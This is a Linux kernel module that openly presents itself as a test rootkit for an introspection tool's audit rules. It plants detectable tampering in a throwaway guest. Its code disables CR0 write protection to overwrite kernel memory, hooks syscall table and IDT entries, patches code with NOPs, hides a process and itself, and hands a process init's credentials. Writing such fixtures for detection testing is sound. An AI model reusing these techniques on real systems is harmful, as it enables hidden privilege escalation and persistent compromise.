// SPDX-License-Identifier: GPL-2.0
/*
 * What the audit rules must find, planted in a test guest of our own. It hides nothing well, and
 * cannot be unloaded: the guest is thrown away.
 *
 * Addresses come as parameters, from the guest's /proc/kallsyms: the module asks for no symbol
 * that is not exported.
 */
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/init_task.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <net/net_namespace.h>

static int hide_pid, share_pid, syscall_number = -1, vector = -1;
static unsigned long syscall_table, idt, lsm_place, traced, patched;
static char *probed;
static bool hide, packets;

module_param(hide_pid, int, 0);
module_param(share_pid, int, 0);
module_param(syscall_number, int, 0);
module_param(vector, int, 0);
module_param(syscall_table, ulong, 0);
module_param(idt, ulong, 0);
module_param(lsm_place, ulong, 0);
module_param(traced, ulong, 0);
module_param(patched, ulong, 0);
module_param(probed, charp, 0);
module_param(hide, bool, 0);
module_param(packets, bool, 0);

static noinline long planted_call(void)
{
	return 0;
}

static unsigned int planted_packet(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static const struct nf_hook_ops packet_hook = {
	.hook = planted_packet,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = NF_IP_PRI_FIRST,
};

static int planted_probe(struct kprobe *probe, struct pt_regs *registers)
{
	return 0;
}

static struct kprobe probe = { .pre_handler = planted_probe };

static void planted_trace(unsigned long ip, unsigned long parent, struct ftrace_ops *ops,
			  struct ftrace_regs *registers)
{
}

static struct ftrace_ops tracer = { .func = planted_trace };

/* Write where the kernel has made its own data read-only. */
static void overwrite(void *place, const void *value, size_t size)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(place, value, size);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static void redirect(unsigned long place)
{
	void *target = planted_call;

	overwrite((void *)place, &target, sizeof target);
}

static void redirect_gate(unsigned char *gate)
{
	unsigned long target = (unsigned long)planted_call;
	u16 low = target, middle = target >> 16;
	u32 high = target >> 32;

	overwrite(gate, &low, 2);
	overwrite(gate + 6, &middle, 2);
	overwrite(gate + 8, &high, 4);
}

static struct task_struct *task(int number)
{
	return pid_task(find_get_pid(number), PIDTYPE_PID);
}

static int __init plant(void)
{
	struct task_struct *victim;

	if (hide_pid && (victim = task(hide_pid)))
		list_del_init(&victim->tasks);
	if (share_pid && (victim = task(share_pid)))
		rcu_assign_pointer(victim->real_cred, get_cred(init_task.real_cred));
	if (syscall_number >= 0)
		redirect(syscall_table + syscall_number * sizeof(void *));
	if (patched)
		overwrite((void *)patched, "\x90\x90\x90\x90\x90\x90\x90\x90", 8);
	if (lsm_place)
		redirect(lsm_place);
	if (vector >= 0)
		redirect_gate((unsigned char *)idt + 16 * vector);
	if (packets && nf_register_net_hook(&init_net, &packet_hook))
		return -EIO;
	if (probed) {
		probe.symbol_name = probed;
		if (register_kprobe(&probe))
			return -EINVAL;
	}
	if (traced && (ftrace_set_filter_ip(&tracer, traced, 0, 0) || register_ftrace_function(&tracer)))
		return -EPERM;
	if (hide) {
		list_del_init(&THIS_MODULE->list);
		kobject_del(&THIS_MODULE->mkobj.kobj);
	}
	return 0;
}

module_init(plant);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A rootkit for the tests of virtintrospect");
